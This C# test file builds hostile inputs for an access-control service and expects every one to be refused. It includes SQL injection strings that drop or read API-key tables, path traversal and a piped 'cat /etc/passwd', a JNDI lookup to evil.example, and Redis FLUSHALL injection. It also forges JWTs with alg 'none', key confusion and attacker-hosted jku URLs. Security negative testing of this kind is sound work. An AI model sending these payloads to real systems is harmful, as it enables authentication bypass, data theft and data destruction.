using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;

namespace Capns.Registry.Worker.Tests.Access;

/// <summary>What somebody sends who wishes us no good: each must be refused, and none may change anything.</summary>
internal static class HostileInputs
{
    private static readonly string[] KeyIds =
    [
        "../../../../dev/null", "/dev/null", "file:///etc/passwd", "http://127.0.0.1/keys", "' OR '1'='1", "x'; DROP TABLE api_keys; --", "|cat /etc/passwd",
        "%2e%2e%2fkeys", "..\\..\\keys", "\\u0000", "${jndi:ldap://evil.example/a}", "{{7*7}}", new('k', 257), "keys\r\nX-Evil: 1", "😀",
    ];

    private static readonly string[] Injections =
    [
        "' OR '1'='1", "'; DROP TABLE policies; --", "1; SELECT pg_sleep(10)", "\" OR \"\"=\"", "$$; DELETE FROM api_keys; $$", "') UNION SELECT hash FROM api_keys --",
        "]] redis.call('FLUSHALL') --[[", "return redis.call('KEYS','*')", "<script>alert(1)</script>", "../../etc/passwd", "%00", "{{constructor}}", "\ud83d\ude00", "\u202etxt",
    ];

    /// <summary>Tokens that nobody has signed, that were altered, that are another's, or that are none.</summary>
    public static IEnumerable<string> Tokens(DateTimeOffset now)
    {
        var claims = TestTokens.Claims(now, "root", "admin");
        var good = TestTokens.Hs256(claims);
        var parts = good.Split('.');
        return Unsigned(claims).Concat(Confused(claims)).Concat(Headers(claims)).Concat(Shapes(good, parts)).Concat(Altered(good, parts)).Concat(Claims(now));
    }

    /// <summary>Method, path, body and its content type, for an administrator.</summary>
    public static IEnumerable<(string Method, string Path, byte[]? Body, string Type)> Requests()
    {
        string[] posts = ["/api/v1/permissions", "/api/v1/policies", "/api/v1/api-keys", "/api/v1/service-accounts", "/api/v1/tools"];
        foreach (var path in posts)
        {
            foreach (var body in Bodies())
            {
                yield return ("POST", path, body, "application/json");
            }

            yield return ("POST", path, "{}"u8.ToArray(), "text/plain");
            yield return ("POST", path, "<x/>"u8.ToArray(), "application/xml");
            yield return ("PUT", path, "{}"u8.ToArray(), "application/json");
            yield return ("DELETE", path, null, "");
        }

        foreach (var text in Injections)
        {
            var (json, url) = (JsonValue.Create(text).ToJsonString(), Uri.EscapeDataString(text));
            yield return Json("/api/v1/permissions", $$"""{"subjectKind":"user","subjectId":"x","permission":{{json}}}""");
            yield return Json("/api/v1/permissions", $$"""{"subjectKind":{{json}},"subjectId":"x","permission":"tool:read"}""");
            yield return Json("/api/v1/policies", $$$"""{"name":"x","effect":"allow","reason":"x","match":{"actions":[{{{json}}}]}}""");
            yield return Json("/api/v1/policies", $$$"""{"name":"x","effect":"allow","reason":"x","match":{"time":{"timezone":{{{json}}} } } }""");
            yield return Json("/api/v1/service-accounts", $$"""{"name":{{json}}}""");
            yield return Json("/api/v1/api-keys", $$"""{"name":"x","scopes":[{{json}}],"expiresAt":"2026-03-03T00:00:00Z"}""");
            yield return ("GET", $"/api/v1/policies/{url}", null, "");
            yield return ("DELETE", $"/api/v1/api-keys/{url}", null, "");
            yield return ("GET", $"/api/v1/policies?effect={url}", null, "");
            yield return ("GET", $"/api/v1/permissions?limit={url}", null, "");
            yield return ("GET", $"/api/v1/tools/{url}/versions/{url}", null, "");
            yield return ("POST", "/oauth/token", Encoding.UTF8.GetBytes($"grant_type=client_credentials&client_id={url}&client_secret={url}"), "application/x-www-form-urlencoded");
        }
    }

    private static (string Method, string Path, byte[]? Body, string Type) Json(string path, string body) => ("POST", path, Encoding.UTF8.GetBytes(body), "application/json");

    private static IEnumerable<byte[]> Bodies()
    {
        string[] texts =
        [
            "", " ", "null", "5", "\"x\"", "[]", "[{}]", "{", "{}}", "{\"name\":}", "{'name':'x'}", "{\"name\":NaN}", "{\"name\":1e999}", "{/*x*/}", "{\"name\":\"x\",}",
            "{\"name\":{\"$ne\":null}}", "{\"__proto__\":{\"isAdmin\":true}}", "{\"name\":\"\\ud800\"}", "{\"\\ud800\":1}", "{\"name\":\"\\u0000\"}",
            "{\"name\":true,\"effect\":5,\"scopes\":{},\"permission\":[],\"roles\":\"admin\"}",
            $"{{\"name\":\"{new string('n', 100_000)}\"}}",
            $"{{\"name\":{new string('[', 5_000)}{new string(']', 5_000)}}}", string.Concat(Enumerable.Repeat("{\"a\":", 5_000)),
        ];
        return texts.Select(Encoding.UTF8.GetBytes).Append([0xFF, 0xFE, 0x7B, 0x00, 0x7D, 0x00]).Append([0x7B, 0x22, 0xC3, 0x28, 0x22, 0x3A, 0x31, 0x7D]);
    }

    private static IEnumerable<string> Unsigned(JsonObject claims) => from algorithm in new[] { "none", "None", "NONE", "nOnE", "", "HS0", "null" }
                                                                      from signature in new byte[][] { [], [0], new byte[32] }
                                                                      select TestTokens.Sign($$"""{"alg":"{{algorithm}}","typ":"JWT"}""", claims.ToJsonString(), _ => signature);

    /// <summary>Public keys as secrets, other algorithms, other people's keys.</summary>
    private static IEnumerable<string> Confused(JsonObject claims)
    {
        byte[][] secrets =
        [
            [], [0], Encoding.ASCII.GetBytes("secret"), TestTokens.Rsa.ExportSubjectPublicKeyInfo(), TestTokens.Rsa.ExportRSAPublicKey(),
            Encoding.ASCII.GetBytes(TestTokens.Rsa.ExportSubjectPublicKeyInfoPem()), TestTokens.Ec.ExportSubjectPublicKeyInfo(),
            Encoding.ASCII.GetBytes(TestTokens.Ec.ExportSubjectPublicKeyInfoPem()), TestTokens.Secret[..^1], [.. TestTokens.Secret, 0, 0],
        ];
        foreach (var secret in secrets.Where(secret => !secret.AsSpan().SequenceEqual(TestTokens.Secret)).SkipLast(1))
        {
            yield return TestTokens.Hs256(claims, secret);
        }

        yield return TestTokens.Rs256(TestTokens.Rsa, claims);
        yield return TestTokens.Es256(TestTokens.Ec, claims);
        foreach (var algorithm in new[] { "HS384", "HS512", "RS256", "ES256", "PS256", "EdDSA", "hs256", "HS256 ", "dir", "A256KW" })
        {
            yield return TestTokens.Sign($$"""{"alg":"{{algorithm}}"}""", claims.ToJsonString(), input => HMACSHA256.HashData(TestTokens.Secret, input));
        }
    }

    /// <summary>Signed by us, with headers that demand what we do not do; and by nobody, with headers that name a key.</summary>
    private static IEnumerable<string> Headers(JsonObject claims)
    {
        string[] demands =
        [
            "\"crit\":[\"exp\"]", "\"crit\":[]", "\"b64\":false", "\"zip\":\"DEF\"", "\"enc\":\"A256GCM\"", "\"cty\":\"JWT\"", "\"typ\":\"JWE\"", "\"typ\":5", "\"typ\":[\"JWT\"]",
            "\"alg\":\"HS256\"", "\"kid\":5", "\"kid\":\"\"", "\"kid\":null",
        ];
        var self = TestTokens.Jwk(TestTokens.Rsa, "me").ToJsonString();
        string[] keys = ["\"jku\":\"https://evil.example/keys\"", $"\"jwk\":{self}", "\"x5u\":\"https://evil.example/x\"", "\"x5c\":[\"AAAA\"]"];
        return demands.Select(demand => TestTokens.Hs256(claims, header: $$"""{"alg":"HS256",{{demand}}}"""))
            .Concat(keys.Select(key => TestTokens.Rs256(TestTokens.Rsa, claims, $$"""{"alg":"RS256",{{key}}}""")))
            .Concat(KeyIds.Select(kid => TestTokens.Hs256(claims, [1, 2, 3], new JsonObject { ["alg"] = "HS256", ["kid"] = kid }.ToJsonString())));
    }

    private static IEnumerable<string> Shapes(string good, string[] parts) =>
    [
        "x", ".", "..", "...", "a.b.c", parts[0], $"{parts[0]}.{parts[1]}", $"{parts[0]}.{parts[1]}.", $"{good}.", $".{good}", $"{good}.{parts[2]}", $"{good}.x.y", $"{good}=",
        $"{good}A", $"{parts[0]}=.{parts[1]}.{parts[2]}", $"{parts[1]}.{parts[0]}.{parts[2]}", $"{parts[0]}.{parts[1]}.{parts[1]}", $"{parts[0]}..{parts[2]}",
        $".{parts[1]}.{parts[2]}", good.ToUpperInvariant(), good.Replace('.', ','), $"{good}%00", $"{good},{good}", $"\"{good}\"", new string('a', 16_400), new string('.', 2_000),
        $"{parts[0]}.{Convert.ToBase64String("{}"u8)}.{parts[2]}", "capns_", "capns_a_b", "capns_abcdefgh_' OR '1'='1", $"capns_abcdefgh_{new string('a', 52)}", $"capns_{new string('a', 200)}_b",
    ];

    /// <summary>One letter changed, all over the token.</summary>
    private static IEnumerable<string> Altered(string good, string[] parts) => Enumerable.Range(0, 40)
        .Select(number => (number * 7) % good.Length)
        .Where(at => good[at] != '.' && at != good.Length - 1)
        .Select(at => good[..at] + (good[at] == 'A' ? 'B' : 'A') + good[(at + 1)..])
        .Append($"{parts[0]}.{parts[1]}.{parts[2][..^4]}");

    /// <summary>Signed by us, saying what is over, not yet, another's, or of a wrong type.</summary>
    private static IEnumerable<string> Claims(DateTimeOffset now)
    {
        (string Name, string Value)[] wrong =
        [
            ("exp", $"{now.ToUnixTimeSeconds() - 61}"), ("exp", "0"), ("exp", "-1"), ("exp", "1e300"), ("exp", "\"9999999999\""), ("exp", "null"), ("exp", "[9999999999]"),
            ("nbf", $"{now.ToUnixTimeSeconds() + 120}"), ("nbf", "\"soon\""), ("iat", $"{now.ToUnixTimeSeconds() + 120}"), ("iat", "{}"), ("iat", "null"),
            ("aud", "\"other\""), ("aud", "[]"), ("aud", "[\"other\"]"), ("aud", "null"), ("aud", "5"), ("aud", "\"UAIP-SERVICES\""), ("aud", "{\"uaip-services\":1}"),
            ("iss", "\"other\""), ("iss", "null"), ("iss", "\"urn:capns:registry\""), ("iss", "[\"uaip-security-gateway\"]"), ("iss", "\"uaip-security-gateway/\""),
            ("userId", "5"), ("userId", "\"\""), ("userId", "\"a\\u0000b\""), ("userId", $"\"{new string('u', 129)}\""), ("userId", "{}"), ("sub", "[]"),
            ("roles", "5"), ("roles", "{}"), ("roles", "[5]"), ("roles", "[null]"), ("roles", $"[{string.Join(',', Enumerable.Repeat("1", 1001))}]"),
            ("projects", "true"), ("agents", "[[]]"), ("client_id", "5"), ("scope", "[]"),
        ];
        return wrong.Select(change =>
        {
            var claims = TestTokens.Claims(now, "root", "admin");
            claims[change.Name] = JsonNode.Parse(change.Value);
            return TestTokens.Hs256(claims);
        });
    }
}
